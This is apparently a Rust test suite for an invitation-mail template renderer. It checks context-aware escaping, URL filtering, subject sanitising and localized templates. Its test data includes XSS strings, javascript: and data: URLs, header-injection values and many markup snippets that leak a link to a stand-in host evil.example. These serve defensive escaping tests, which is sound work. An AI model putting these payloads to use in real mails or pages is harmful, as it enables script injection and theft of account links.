//! Tests of rendering: escaping by place, hostile values, and the shipped mails in every language.

use proptest::prelude::*;

use crate::i18n::Language;
use crate::mail::render::addresses::LinkPolicy;
use crate::mail::render::problem::Problem;
use crate::mail::render::validate::validate_parts;
use crate::mail::render::{InvitationMail, form_encoded, invitation_values, plain, sample_values, shipped};
use crate::mail::template::{PLACEHOLDERS, Template, Values};
use crate::model::mail::TemplateType;

fn render(template: &Template, values: &Values) -> super::Rendered {
    super::render(template, values).expect("it fits")
}

fn html(source: &str, value: &str) -> String {
    super::html::render(source, &Values::from_iter([("v", value)])).expect("it fits")
}

fn mail(source: &str, value: &str) -> super::Rendered {
    let template = Template { subject: source.into(), html: source.into(), text: source.into() };
    render(&template, &Values::from_iter([("v", value)]))
}

#[test]
fn values_are_escaped_in_html_and_literal_in_text() {
    let hostile = r#"<script>alert("1")</script> & 'x' `y`"#;
    let rendered = mail("Hi {{v}}", hostile);
    assert_eq!(rendered.html, "Hi &lt;script&gt;alert(&quot;1&quot;)&lt;/script&gt; &amp; &#39;x&#39; &#96;y&#96;");
    assert_eq!(rendered.text, format!("Hi {hostile}\n"));
    assert_eq!(rendered.subject, format!("Hi {hostile}"));
}

#[test]
fn values_are_never_read_as_template() {
    let values = Values::from_iter([("a", "{{b}}{{7*7}}${b}"), ("b", "SECRET")]);
    let template = Template { subject: "{{a}}".into(), html: "{{a}}".into(), text: "{{a}}".into() };
    let rendered = render(&template, &values);
    assert_eq!(rendered.html, "{{b}}{{7*7}}${b}");
    assert_eq!(rendered.text, "{{b}}{{7*7}}${b}\n");
    assert_eq!(rendered.subject, "{{b}}{{7*7}}${b}");
    // nor can two values make a placeholder between them
    let split = Values::from_iter([("a", "{{b"), ("c", "}}"), ("b", "SECRET")]);
    assert_eq!(super::html::render("{{a}}{{c}}", &split).expect("it fits"), "{{b}}");
}

#[test]
fn unknown_placeholders_stay_and_missing_claims_vanish() {
    assert_eq!(html("{{nobody}} {{7*7}} {{}} {{a b}} {{", "x"), "{{nobody}} {{7*7}} {{}} {{a b}} {{");
    assert_eq!(html("[{{user.claim.nickname}}][{{inviter}}][{{ v }}]", "x"), "[][][x]");
    assert_eq!(html("{{{v}}}", "x"), "{x}");
}

#[test]
fn url_spelling() {
    assert_eq!(html("{{url:v}}", "a b+c&d=é/~*"), "a+b%2Bc%26d%3D%C3%A9%2F%7E*");
    assert_eq!(form_encoded("paul@x.org"), "paul%40x.org");
}

#[test]
fn a_link_is_sent_to_nobody_by_opening_the_mail() {
    const LINK: &str = "https://id.example.com/invite/lk1.payload.tag";
    let rendered = |source: &str| {
        let values = Values::from_iter([("invitation-link", LINK), ("confirmation-code", "lk1.payload.tag")]);
        super::html::render(source, &values).expect("it fits")
    };
    for place in [
        "<img src=\"https://evil.example/{}\">",
        "<img src={}>",
        "<img srcset='https://evil.example/{} 2x'>",
        "<td background='https://evil.example/?{}'>",
        "<p style='background:url(https://evil.example/{})'>",
        "<style>p { background: url(//evil.example/{}) }</style>",
        "<link rel=stylesheet href='https://evil.example/{}'>",
        "<base href='https://evil.example/{}/'>",
        "<meta http-equiv=refresh content='0; url=https://evil.example/{}'>",
        "<svg><image href='https://evil.example/{}'></svg>",
        "<svg><image xlink:href='https://evil.example/{}'></svg>",
        "<form action='https://evil.example/{}'>",
        "<a href='#' ping='https://evil.example/{}'>",
        "<video poster='https://evil.example/{}'>",
        "<p data-x='{}'>",
    ] {
        for name in
            ["{{invitation-link}}", "{{url:invitation-link}}", "{{confirmation-code}}", "{{ confirmation-code }}"]
        {
            let source = place.replace("{}", name);
            let unquoted = place.replace("={}>", "=\"\">");
            assert_eq!(rendered(&source), unquoted.replace("{}", ""), "{source}");
            let template = Template { subject: "x".into(), html: source.clone(), text: String::new() };
            let problems = validate_parts(Some(TemplateType::AskPassword), &template, &LinkPolicy::default());
            assert!(problems.iter().any(Problem::refuses), "no link that is seen: {source}");
        }
    }
    for place in
        ["<p>{}</p>", "<a href=\"{}\">", "<a href={}>", "<v:roundrect href='{}'>", "<a title='{}'>", "<!-- {} -->"]
    {
        assert_eq!(rendered(&place.replace("{}", "{{invitation-link}}")), place.replace("{}", LINK));
    }
}

#[test]
fn addresses_must_be_http_where_they_begin() {
    for bad in
        ["javascript:alert(1)", "JaVaScRiPt:x", "data:text/html,x", "vbscript:x", "//evil", "evil", " javascript:x"]
    {
        assert_eq!(html(r#"<a href="{{v}}">"#, bad), r##"<a href="#">"##, "{bad}");
        assert_eq!(html("<a href={{v}}>", bad), "<a href=#>", "{bad}");
        assert_eq!(html("<a HREF = '{{v}}'>", bad), "<a HREF = '#'>", "{bad}");
        assert_eq!(html(r#"<img src=" {{v}}">"#, bad), r##"<img src=" #">"##, "{bad}");
    }
    assert_eq!(html(r#"<a href="{{v}}">"#, "java\tscript:alert(1)"), r##"<a href="#">"##);
    // a scheme cannot be put together from pieces
    assert_eq!(html(r#"<a href="java{{v}}">"#, "script:x"), r##"<a href="java#">"##);
    let pieces = Values::from_iter([("a", "java"), ("b", "script:x")]);
    assert_eq!(super::html::render(r#"<a href="{{a}}{{b}}">"#, &pieces).expect("it fits"), r##"<a href="#script:x">"##);

    assert_eq!(html(r#"<a href="{{v}}">"#, "https://x/?a=1&b=2"), r#"<a href="https://x/?a=1&amp;b=2">"#);
    assert_eq!(html(r#"<a href="{{v}}/y">"#, "HTTP://x"), r#"<a href="HTTP://x/y">"#);
    assert_eq!(html(r#"<a href="mailto:{{v}}">"#, "a@b"), r#"<a href="mailto:a@b">"#);
    assert_eq!(html(r#"<img src="{{v}}">"#, ""), r#"<img src="">"#);
    assert_eq!(html(r#"<a href="https://x/{{v}}">"#, r#"a"b <c> d"#), r#"<a href="https://x/a%22b%20%3Cc%3E%20d">"#);
}

#[test]
fn values_do_not_leave_their_attribute() {
    assert_eq!(html(r#"<p title="{{v}}">"#, r#""onclick="x"#), r#"<p title="&quot;onclick=&quot;x">"#);
    assert_eq!(html("<p title='{{v}}'>", "'onclick='x"), "<p title='&#39;onclick=&#39;x'>");
    assert_eq!(html("<p title={{v}}>", "a onclick=x>"), "<p title=a&#32;onclick&#61;x&gt;>");
}

#[test]
fn where_no_value_may_stand_none_is_put() {
    for source in [
        "<p {{v}}>",
        "<{{v}}>",
        "<p a{{v}}=1>",
        r#"<p onclick="{{v}}">"#,
        "<p onClick='f(\"{{v}}\")'>",
        "<script>let x = '{{v}}';</script>",
        r#"<iframe srcdoc="{{v}}">"#,
    ] {
        assert_eq!(html(source, "VALUE"), source.replace("{{v}}", ""), "{source}");
    }
}

#[test]
fn styles_take_words_and_colours_only() {
    assert_eq!(html(r#"<p style="color:{{v}}">"#, "#17596a"), r#"<p style="color:#17596a">"#);
    assert_eq!(
        html("<style>p { font: {{v}} }</style>{{v}}", "x;}</style><b>url(//e)"),
        "<style>p { font: xstyleburle }</style>x;}&lt;/style&gt;&lt;b&gt;url(//e)"
    );
}

#[test]
fn comments_and_outlooks_conditions() {
    assert_eq!(html("<!-- {{v}} -->{{v}}", "--><b>"), "<!-- --&gt;&lt;b&gt; -->--&gt;&lt;b&gt;");
    let conditional =
        r#"<!--[if mso]><v:rect href="{{v}}"></v:rect><![endif]--><!--[if !mso]><!--><a href="{{v}}"><!--<![endif]-->"#;
    assert_eq!(html(conditional, "javascript:x"), conditional.replace("{{v}}", "#"));
    assert_eq!(html("<!--><a href='{{v}}'>", "data:x"), "<!--><a href='#'>");
    assert_eq!(html("a < b {{v}} <!DOCTYPE html><br/>{{v}}", "&"), "a < b &amp; <!DOCTYPE html><br/>&amp;");
}

#[test]
fn a_subject_is_one_clean_line() {
    let rendered = mail("Hi {{v}}", "a\r\nBcc: x@y\u{0}\u{2028}b\u{2029}c\u{85}d\u{7f}\u{202e}e\tf");
    assert_eq!(rendered.subject, "Hi a Bcc: x@y b c de f");
    assert_eq!(rendered.text, "Hi a  Bcc: x@y b c de f\n");
    let long = mail("{{v}}", &"ä".repeat(5000));
    assert_eq!(long.subject.chars().count(), 160);
    assert!(long.subject.ends_with('…'));
    let by_template = Template { subject: "a\r\nb\0  c".into(), ..Template::default() };
    assert_eq!(render(&by_template, &Values::new()).subject, "a b c");
}

#[test]
fn writing_direction_cannot_be_overridden() {
    let rendered = mail("{{v}}", "gpj.\u{202e}exe\u{2066}x\u{2069}\u{200b}\u{feff}\u{e0041}");
    assert_eq!(rendered.html, "gpj.exex");
    assert_eq!(rendered.text, "gpj.exex\n");
    // joiners and marks belong to names
    assert_eq!(mail("{{v}}", "می\u{200c}خواهم\u{200f}").html, "می\u{200c}خواهم\u{200f}");
}

#[test]
fn a_template_pasted_from_wso2_works() {
    let body = r#"<table style="font-family: {{organization.font}}"><tr><td bgcolor="{{organization.color.primary}}">
        <a href="{{account.recovery.endpoint-url}}/confirmrecovery.do?confirmation={{confirmation-code}}&userstoredomain={{userstore-domain}}&username={{url:user-name}}&tenantdomain={{tenant-domain}}&type=invite">Set Password</a>
        </td></tr><tr><td>Hi {{user.claim.givenname}}{{user.claim.middlename}}, &copy; {{current-year}}</td></tr></table>"#;
    let template = Template {
        subject: "Here is your new account in the organization {{organization-name}}".into(),
        html: body.into(),
        text: String::new(),
    };
    assert_eq!(validate_parts(Some(TemplateType::AskPassword), &template, &LinkPolicy::default()), []);
    let rendered = render(&template, &sample_values("en_US", "Example"));
    assert!(rendered.html.contains(
        r#"href="https://id.example.com/accountrecoveryendpoint/confirmrecovery.do?confirmation=lk1.sample&userstoredomain=PRIMARY&username=paul&tenantdomain=carbon.super&type=invite""#
    ));
    assert_eq!(
        rendered.text,
        "Set Password: https://id.example.com/accountrecoveryendpoint/confirmrecovery.do?confirmation=lk1.sample\
         &userstoredomain=PRIMARY&username=paul&tenantdomain=carbon.super&type=invite\nHi Paul, © 2026\n"
    );
}

#[test]
fn html_told_in_text() {
    let html = r#"<html><head><title>T</title><style>p{}</style></head><body>
        <div style="display: none">preview<div>inside</div></div><!-- no -->
        <h1>Hi&nbsp;<b>you</b></h1><p>One
        two &amp; three<br>four</p><ul><li>a</li><li>b</li></ul>
        <a href="https://x/?a=1&amp;b=2">Go</a> <a href='https://y/'>https://y/</a> <a href="mailto:a@b">a@b</a><img alt="logo" src="x">
        <script>if (a < b) {}</script>end &unknown; &#x41;&#8364;</body></html>"#;
    assert_eq!(
        plain::from_html(html),
        "Hi you\n\nOne two & three\nfour\n\n- a\n- b\nGo: https://x/?a=1&b=2 https://y/ a@blogo end &unknown; A€\n"
    );
}

#[test]
fn sentences_read_well_whatever_is_known() {
    let full = InvitationMail {
        locale: "en_US",
        user_name: "paul",
        organization: "Example",
        inviter: "Ada",
        issued_at: 0,
        expires_at: Some(86_400),
        support: "help@example.com",
        sign_in: "https://app",
        claims: &[("givenname", "Paul")],
        ..InvitationMail::default()
    };
    let bare = InvitationMail { locale: "en_US", user_name: "paul", ..InvitationMail::default() };
    for (name, with, without) in [
        ("greeting", "Hello Paul,", "Hello,"),
        ("organization-name", "Example", "Latchkey"),
        ("invitation-sentence", "Ada has invited you to join Example.", "You have been invited to join Latchkey."),
        (
            "expiry-sentence",
            "The link works once and for 24 hours, until Friday, January 2, 1970, 00:00 UTC.",
            "The link works once and never expires.",
        ),
        ("expires-in", "24 hours", "never expires"),
        ("help-sentence", "Questions? Write to help@example.com.", "Questions? Ask your administrator."),
        ("sign-in-sentence", "Sign in here:", ""),
    ] {
        assert_eq!(invitation_values(&full).get(name), Some(with));
        assert_eq!(invitation_values(&bare).get(name), Some(without));
    }
}

#[test]
fn every_placeholder_gets_a_value() {
    let values = sample_values("en_US", "Example");
    for placeholder in PLACEHOLDERS {
        assert!(values.get(placeholder.name).is_some(), "{}", placeholder.name);
        assert!(placeholder.meaning.len() > 5);
    }
}

#[test]
fn shipped_mails_are_complete_in_every_language() {
    let link = "https://id.example.com/invite/lk1.sample";
    for language in Language::ALL {
        let locale = language.locale();
        for kind in TemplateType::ALL {
            let template = shipped(kind, locale);
            let name = format!("{} {locale}", kind.name());
            assert_eq!(validate_parts(Some(kind), template, &LinkPolicy::default()), [], "{name}");
            let rendered = render(template, &sample_values(locale, "Example & Sons"));
            for part in [&rendered.subject, &rendered.html, &rendered.text] {
                assert!(!part.contains("{{") && !part.contains("[["), "{name}: {part}");
            }
            assert!(rendered.html.contains(&format!("lang=\"{}\" dir=\"{}\"", language.tag(), language.dir())));
            assert!(rendered.html.contains("Example &amp; Sons") && rendered.text.contains("Example & Sons"), "{name}");
            assert!(rendered.html.contains(">paul<") && rendered.text.contains("paul\n"), "{name}");
            if !kind.required_placeholders().is_empty() {
                // the button and the address in full, and the address on a line of its own
                assert_eq!(rendered.html.matches(&format!("href=\"{link}\"")).count(), 2, "{name}");
                assert!(rendered.html.contains(&format!(">{link}</a>")), "{name}");
                assert!(rendered.text.contains(&format!("\n{link}\n")), "{name}");
                assert!(rendered.text.contains("2026") && rendered.text.contains("UTC"), "{name}");
            }
            if language != Language::En {
                assert_ne!(template, shipped(kind, "en_US"), "{name}");
            }
        }
    }
    assert_eq!(shipped(TemplateType::AskPassword, "tlh"), shipped(TemplateType::AskPassword, "en_US"));
    assert_eq!(shipped(TemplateType::AskPassword, "pt"), shipped(TemplateType::AskPassword, "pt_BR"));
}

#[test]
fn shipped_mails_as_they_are_sent() {
    let values = sample_values("en_US", "Example Corporation");
    insta::with_settings!({ prepend_module_to_snapshot => false, omit_expression => true }, {
        for kind in TemplateType::ALL {
            let rendered = render(shipped(kind, "en_US"), &values);
            let told = format!("Subject: {}\n\n{}", rendered.subject, rendered.text);
            insta::assert_snapshot!(format!("{}-text", kind.name()), told);
            insta::assert_snapshot!(format!("{}-html", kind.name()), rendered.html);
        }
        for language in Language::ALL {
            let locale = language.locale();
            let values = sample_values(locale, "Example Corporation");
            let rendered = TemplateType::ALL.map(|kind| render(shipped(kind, locale), &values));
            let told = rendered.iter().map(|mail| format!("Subject: {}\n\n{}", mail.subject, mail.text));
            if language != Language::En {
                insta::assert_snapshot!(format!("mails-{locale}"), told.collect::<Vec<_>>().join("\n----\n"));
                let html = rendered.iter().map(|mail| mail.html.as_str());
                insta::assert_snapshot!(format!("mails-{locale}-html"), html.collect::<Vec<_>>().join("\n----\n"));
            }
        }
    });
}

proptest! {
    #[test]
    fn hostile_values_change_no_markup(value in r#"[<>"'&=;:/{}\-! a-z\n\r]{0,40}|.{0,40}"#) {
        let mut values = sample_values("en_US", "Example");
        let sober = render(shipped(TemplateType::AskPassword, "en_US"), &values);
        for placeholder in PLACEHOLDERS {
            values.set(placeholder.name, value.clone());
        }
        let rendered = render(shipped(TemplateType::AskPassword, "en_US"), &values);
        for mark in ['<', '>', '"'] {
            prop_assert_eq!(rendered.html.matches(mark).count(), sober.html.matches(mark).count());
        }
        let breaks = |c: char| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}');
        prop_assert!(!rendered.subject.contains(breaks));
        prop_assert!(!rendered.html.contains("href=\"javascript"));
    }

    #[test]
    fn any_template_and_value_render(
        source in r#"([<>"'=/!\-{} a-z]|\{\{(url:)?v\}\}|<!--|-->|<style>|</style>|<script|href=|style=|&#x?[0-9]+;|.){0,60}"#,
        value in ".{0,30}",
    ) {
        let whole: String = crate::mail::template::pieces(&source).map(|piece| match piece {
            crate::mail::template::Piece::Literal(text) => text,
            crate::mail::template::Piece::Placeholder { source, .. } => source,
        }).collect();
        prop_assert_eq!(&whole, &source);
        let template = Template { subject: source.clone(), html: source.clone(), text: source.clone() };
        render(&template, &Values::from_iter([("v", value)]));
        plain::from_html(&source);
        for kind in TemplateType::ALL {
            for problem in validate_parts(Some(kind), &template, &LinkPolicy::default()) {
                prop_assert!(problem.to_string().ends_with('.'));
            }
        }
    }
}
